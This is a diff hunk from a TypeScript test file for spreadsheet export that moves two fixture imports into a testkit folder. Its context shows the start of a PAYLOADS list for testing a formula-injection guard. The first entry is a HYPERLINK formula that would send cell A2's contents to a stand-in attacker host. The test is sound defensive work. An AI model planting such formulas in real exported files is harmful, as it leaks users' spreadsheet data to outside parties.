@@ -10,8 +10,8 @@ import { buildXlsx } from '../../src/export/xlsx';
 import { portfolioExportTable, type ExportTable } from '../../src/export/exportTable';
 import { neutraliseFormula } from '../../src/export/formulaGuard';
 import { toPortfolioViewRows } from '../../src/export/portfolioView';
-import { NOW, row, testModel } from '../domain/portfolio/portfolioFixtures';
-import { parseCsv } from './parseCsv';
+import { NOW, row, testModel } from '../../testkit/portfolioFixtures';
+import { parseCsv } from '../../testkit/parseCsv';
 
 const PAYLOADS = [
   '=HYPERLINK("https://evil.example/?leak="&A2;"Klikk her")',
